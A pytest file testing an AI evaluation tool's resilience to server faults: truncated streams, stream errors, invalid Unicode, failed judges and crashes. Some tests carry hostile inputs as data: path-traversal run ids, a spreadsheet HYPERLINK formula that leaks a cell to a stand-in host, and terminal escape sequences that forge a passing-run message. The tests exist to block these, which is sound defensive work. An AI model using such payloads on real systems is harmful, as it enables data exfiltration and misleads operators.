"""Evidence the gate can trust under faults (issue 27): truncated streams, error events inside a
stream, invalid Unicode from a server, a judge that failed, run ids, spreadsheet formulas,
escape sequences and crashed servers. Each fault comes from the local OpenAI-compatible server
(127.0.0.1) through the real `openai` SDK; the decision is read back through `penpal-eval decide`."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from evaluators.cli import app
from evaluators.cli.release import EXIT_INCOMPLETE
from evaluators.judge.factory import JudgeConfig
from evaluators.pipeline import run_evaluation
from evaluators.run.config import RunConfigError
from evaluators.scoring.api import default_evaluator
from evaluators.store.run_store import RunStore
from tests.servers.openai_compat import (
    DISCONNECT,
    LENGTH_CUT,
    OK,
    TRUNCATED_STREAM,
    scripted_reply,
    server_error,
    stream_error,
)
from tests.support.runs import config, conversation, use_server

pytestmark = pytest.mark.usefixtures("no_api_configured")  # runs replay unless pointed at the server
runner = CliRunner()
JOKE = ("v2", "Can you tell me a joke?")


def with_safety_scenario(project: dict[str, Path]) -> None:
    """The small project's greeting as a safety scenario: its set is then complete for a decision,
    so only the fault under test can make the evidence incomplete."""
    basic = project["scenarios"] / "basic.yaml"
    basic.write_text(basic.read_text().replace("    title: Greeting\n", "    title: Greeting\n    safety: true\n"))


def decide(run_dir: Path, *args: str):
    result = runner.invoke(app, ["decide", str(run_dir), *args])
    return result, " ".join(result.output.split())


# --- 1. truncated streams ----------------------------------------------------------------------------
def test_a_stream_cut_short_is_retried_where_it_broke(small_project, openai_server, monkeypatch):
    server = openai_server(lambda call: TRUNCATED_STREAM if conversation(call) == JOKE and call.attempt == 1 else OK)
    use_server(monkeypatch, server)
    report = run_evaluation(config(small_project, responder="openai", use_cache=False), default_evaluator())
    joke = next(case for case in report.outcome.cases if case.case_id == "v2/basic-joke")
    assert joke.status == "ok" and joke.turns[0].attempts == 2 and not joke.turns[0].truncated
    assert joke.turns[0].reply == scripted_reply(server.calls_for_user_turn("Can you tell me a joke?")[-1].messages)


@pytest.mark.parametrize("fault, calls, reason", [
    (TRUNCATED_STREAM, 3, "the stream ended without a finish reason after 3 words (gave up after 3 attempts)"),
    (LENGTH_CUT, 1, "the model stopped at max_tokens (finish_reason: length)"),
])
def test_a_reply_that_stays_truncated_is_kept_on_its_turn_never_scored_and_missing_evidence(
        small_project, openai_server, monkeypatch, fault, calls, reason):
    with_safety_scenario(small_project)
    server = openai_server(lambda call: fault if conversation(call) == JOKE else OK)
    use_server(monkeypatch, server)
    report = run_evaluation(config(small_project, responder="openai", max_attempts=3), default_evaluator())
    joke = next(case for case in report.outcome.cases if case.case_id == "v2/basic-joke")
    assert len(server.calls_for_user_turn("Can you tell me a joke?")) - 1 == calls  # v1's call is the other one
    turn = joke.turns[0]
    assert turn.truncated and reason in turn.truncation and turn.heuristics is None
    assert joke.status == "failed" and joke.scores == {} and joke.error.startswith("turn 1: truncated reply: ")
    if fault is TRUNCATED_STREAM:
        joke_call = server.calls_for_user_turn("Can you tell me a joke?")[-1]
        assert turn.reply.split() == scripted_reply(joke_call.messages).split()[:3]
    # Never cached (every other of the ten replies is), so a resumed run asks again.
    assert len(list(small_project["cache"].rglob("*.json"))) == 9
    frame = pd.read_csv(report.store.directory / "turns.csv")
    assert frame.set_index("case_id").loc["v2/basic-joke", "truncated"]
    result, out = decide(report.store.directory, "-p", "v2")
    assert result.exit_code == EXIT_INCOMPLETE, out
    assert "1 case failed, 1 of them on a truncated reply" in out


# --- 2. an error event inside a 200 stream -------------------------------------------------------------
def test_an_error_event_inside_a_stream_is_retried_like_a_server_error(small_project, openai_server, monkeypatch):
    server = openai_server(lambda call: stream_error("the model crashed") if call.attempt == 1 else OK)
    use_server(monkeypatch, server)
    report = run_evaluation(config(small_project, responder="openai", use_cache=False), default_evaluator())
    assert all(case.status == "ok" for case in report.outcome.cases)
    assert all(turn.attempts == 2 for case in report.outcome.cases for turn in case.turns)

    always = openai_server(lambda call: stream_error("\x1b[2J\x1b[31mthe model crashed\x1b[0m"))
    use_server(monkeypatch, always)
    failed = run_evaluation(config(small_project, responder="openai", use_cache=False, max_attempts=2,
                                   run_id="always"), default_evaluator())
    errors = {case.error for case in failed.outcome.cases}
    assert errors == {"turn 1: server error in the stream: the model crashed (gave up after 2 attempts)"}


# --- 3. invalid Unicode ----------------------------------------------------------------------------------
def lone_surrogate_reply(call) -> str:
    return "That sounds hard \ud800 what happened next?" if "joke" in call.messages[-1]["content"] else \
        scripted_reply(call.messages)


@pytest.mark.parametrize("use_cache", [True, False])
def test_a_lone_surrogate_in_a_reply_is_replaced_noted_and_the_run_stores_every_case(
        small_project, openai_server, monkeypatch, use_cache):
    server = openai_server(answers=lone_surrogate_reply)
    use_server(monkeypatch, server)
    report = run_evaluation(config(small_project, responder="openai", use_cache=use_cache), default_evaluator())
    cases = {case.case_id: case for case in RunStore.open(report.store.directory).read_cases()}
    assert len(cases) == 6 and all(case.status == "ok" for case in cases.values())
    turn = cases["v2/basic-joke"].turns[0]
    assert turn.reply == "That sounds hard \ufffd what happened next?"
    assert [notice.name for notice in turn.notices] == ["invalid_unicode"]
    assert "1 invalid character (a lone surrogate) in the reply replaced with U+FFFD" in turn.notices[0].text
    (report.store.directory / "cases.jsonl").read_bytes().decode("utf-8")  # valid UTF-8 throughout
    again = run_evaluation(config(small_project, responder="openai", use_cache=use_cache,
                                  resume=report.store.directory), default_evaluator())
    assert again.outcome.ran == 0 and len(again.outcome.cases) == 6


def test_score_scores_the_valid_lines_around_a_record_with_a_lone_surrogate(tmp_path):
    lines = [{"id": "a", "user_message": "I feel lonely.", "response": "That sounds hard. What happened?"},
             {"id": "b", "user_message": "hi \ud83d", "response": "Hello \ud800 there, how are you?"},
             {"id": "c", "user_message": "ok", "response": "Fine, tell me more about your day."}]
    source = tmp_path / "replies.jsonl"
    source.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")  # \ud800 escaped: valid JSON
    result = runner.invoke(app, ["score", str(source)])
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [record["id"] for record in records] == ["a", "b", "c"]
    assert all(record.get("overall_quality") is not None for record in records)
    assert records[1]["notices"][0]["name"] == "invalid_unicode"
    assert "2 invalid characters (lone surrogates) in user_message, response" in records[1]["notices"][0]["text"]
    assert "notices" not in records[0] and "notices" not in records[2]
    alone = runner.invoke(app, ["score", "--user", "ok", "--response", "Fine, tell me more about your day.", "--json"])
    assert json.loads(alone.stdout)["overall_quality"] == records[2]["overall_quality"]
    assert "line 2: 2 invalid characters" in " ".join(result.stderr.split())


# --- 4. a failed judge is missing evidence ------------------------------------------------------------------
def test_a_run_whose_judge_failed_is_incomplete_for_decide_with_the_count(small_project, openai_server, monkeypatch):
    with_safety_scenario(small_project)
    server = openai_server(lambda call: server_error(500))
    monkeypatch.setenv("PENPAL_JUDGE_BASE_URL", server.base_url)
    monkeypatch.setenv("PENPAL_JUDGE_API_KEY", "sk-judge-test")
    judged = config(small_project, responder="replay", max_attempts=2,
                    judge=JudgeConfig(model="judge-model", retry_base_delay_s=0.01, max_attempts=2))
    report = run_evaluation(judged, default_evaluator())
    assert all(case.status == "ok" and case.judge_failed for case in report.outcome.cases)
    result, out = decide(report.store.directory, "-p", "v2")
    assert result.exit_code == EXIT_INCOMPLETE, out
    assert "Deploy" not in out and "3 cases could not be judged" in out
    assert f"penpal-eval run --resume {report.store.directory}" in out or "--resume" in out
    as_json = json.loads(runner.invoke(app, ["decide", str(report.store.directory), "-p", "v2", "--json"]).stdout)
    assert as_json[0]["outcome"] == "incomplete" and as_json[0]["coverage"]["judge_failed"] == 3
    # The quality judge failed too: only a resume judges those again (verify asks only the safety judge).
    finish = as_json[0]["coverage"]["finish"]
    assert any(step.startswith("finish the run: penpal-eval run --resume ") for step in finish)
    assert not any("ask the safety judge again" in step for step in finish)


# --- 7. smaller findings ------------------------------------------------------------------------------------
@pytest.mark.parametrize("run_id", ["../../x", "/tmp/penpal-escape", "a/b", ".hidden", " "])
def test_a_run_id_that_is_not_a_plain_name_is_refused_before_anything_is_written(small_project, run_id):
    with pytest.raises(RunConfigError, match="--run-id"):
        run_evaluation(config(small_project, responder="replay", run_id=run_id), default_evaluator())
    assert not Path("/tmp/penpal-escape").exists()
    assert not (small_project["root"].parent / "x").exists()
    result = runner.invoke(app, ["run", "--prompts-dir", str(small_project["prompts"]), "--scenarios-dir",
                                 str(small_project["scenarios"]), "--output", str(small_project["runs"]),
                                 "--responder", "replay", "--run-id", run_id])
    assert result.exit_code == 2 and "--run-id" in result.stderr


def test_spreadsheet_formulas_in_replies_are_written_to_csv_as_text(small_project, monkeypatch):
    recorded = small_project["recorded"] / "mixed.yaml"
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for a hug")'
    recorded.write_text(recorded.read_text().replace('"That sounds fun!"', json.dumps(formula))
                        .replace('"Have a great hike!"', json.dumps("+1 for hiking! Have a great time.")))
    store = run_evaluation(config(small_project, responder="replay"), default_evaluator()).store
    turns = pd.read_csv(store.directory / "turns.csv")
    replies = set(turns["reply"])
    assert "'" + formula in replies and "'+1 for hiking! Have a great time." in replies
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for column in turns.columns
                   for cell in turns[column] if isinstance(cell, str))
    parquet = pd.read_parquet(store.directory / "turns.parquet")
    assert formula in set(parquet["reply"])  # the data itself is unchanged


def test_a_server_that_crashes_mid_request_is_named_as_such(small_project, openai_server, monkeypatch):
    server = openai_server(lambda call: DISCONNECT if conversation(call) == JOKE else OK)
    use_server(monkeypatch, server)
    report = run_evaluation(config(small_project, responder="openai", max_attempts=2), default_evaluator())
    joke = next(case for case in report.outcome.cases if case.case_id == "v2/basic-joke")
    assert joke.status == "failed"
    assert "the server crashed or closed the connection mid-request (RemoteProtocolError" in joke.error


def test_server_error_text_reaches_the_terminal_without_escape_sequences(small_project, openai_server, monkeypatch):
    hostile = "\x1b]0;pwned\x07\x1b[2K\rRun passed: 0 failures\x1b[0m"
    server = openai_server(lambda call: server_error(400, hostile) if conversation(call) == JOKE else OK)
    use_server(monkeypatch, server)
    result = runner.invoke(app, ["run", "--prompts-dir", str(small_project["prompts"]), "--scenarios-dir",
                                 str(small_project["scenarios"]), "--output", str(small_project["runs"]),
                                 "--no-cache"])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\r" not in result.stderr and "\x07" not in result.stderr
    line = next(line for line in result.stderr.splitlines() if "v2/basic-joke: turn 1: HTTP 400" in line)
    assert line.endswith("Run passed: 0 failures")  # the words stay, the escape sequences go


def test_the_response_cache_tells_deployments_apart_by_full_url_and_key_and_never_keeps_the_key(
        small_project, openai_server, monkeypatch):
    from evaluators.core.response_cache import cache_key, deployment_key

    server = openai_server()
    secret_one, secret_two = "sk-deployment-one-SECRET-1111", "sk-deployment-two-SECRET-2222"
    with_user = server.base_url.replace("http://", "http://tenant-b:SECRET-pw@")
    runs = []
    for base_url, key in ((server.base_url, secret_one), (server.base_url, secret_two), (with_user, secret_two),
                          (with_user, secret_two)):
        monkeypatch.setenv("OPENAI_BASE_URL", base_url)
        monkeypatch.setenv("OPENAI_API_KEY", key)
        before = len(server.calls)
        run_evaluation(config(small_project, responder="openai"), default_evaluator())
        runs.append(len(server.calls) - before)
    # Another key, then other credentials in the URL: each a deployment of its own; the same again: cached.
    assert runs == [10, 10, 10, 0]
    for path in small_project["cache"].rglob("*"):
        if path.is_file():
            assert b"SECRET" not in path.read_bytes(), path
    # The query string is part of the deployment too (an Azure api-version, a proxy's route).
    message = [{"role": "user", "content": "hi"}]
    keys = {cache_key(deployment_key(f"https://proxy.example/v1?{query}", secret_one), "m", {}, message)
            for query in ("deployment=one", "deployment=two", "")}
    assert len(keys) == 3
    assert secret_one not in str(deployment_key("https://proxy.example/v1", secret_one))
